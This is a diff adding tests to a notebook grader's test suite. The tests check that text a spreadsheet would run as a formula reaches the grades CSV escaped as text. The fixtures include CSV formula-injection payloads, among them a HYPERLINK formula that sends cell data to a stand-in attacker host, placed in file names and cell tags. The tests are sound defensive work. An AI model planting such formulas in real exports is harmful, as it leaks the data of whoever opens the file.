@@ -152,3 +152,30 @@ def test_where_no_partial_file_can_be_made_the_csv_is_still_written_in_place(tmp
     assert main(["grade", str(submissions), "--out", str(out)]) == 0
     assert read_rows(out)[1][0] == str(submissions / "a.ipynb")
     assert (tmp_path / "grades.csv.partial" / "kept").read_text() == "someone's"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def test_a_text_a_spreadsheet_would_read_as_a_formula_is_written_as_text(tmp_path):
+    """Before: a notebook named, tagged or printing `=HYPERLINK(…)` put that formula in the teacher's
+    grades, where a spreadsheet ran it (sending the next cell's data away when clicked)."""
+    rows = [Row(text, text, False, text) for text in FORMULAS]
+    out = grade.write_csv(rows, tmp_path / "grades.csv")
+    assert read_rows(out)[1:] == [["'" + text, "'" + text, "0", "'" + text] for text in FORMULAS]
+
+
+def test_a_formula_in_a_submissions_name_and_its_exercise_tag_reaches_the_csv_as_text(tmp_path, monkeypatch):
+    """The names come from the learner: the file (graded from its own folder) and a cell's tag."""
+    import nbformat
+
+    monkeypatch.chdir(tmp_path)
+    name = '=HYPERLINK("evil.example","open").ipynb'
+    formula = '=HYPERLINK("http://evil.example/?d="&A1)'  # a tag holds no comma
+    tag = "exercise:" + formula
+    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", metadata={"tags": [tag]})]), name)
+    ran = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", metadata={"tags": [tag]}, execution_count=1)])
+    monkeypatch.setattr(grade, "_execute", lambda path, seconds: (ran, ""))
+    assert main(["grade", name, "--out", "grades.csv"]) == 0
+    assert read_rows(tmp_path / "grades.csv")[1:] == [["'" + name, "'" + formula, "0", grade.NO_CHECK]]
+    assert all(not text.startswith(("=", "+", "-", "@")) for row in read_rows(tmp_path / "grades.csv") for text in row)
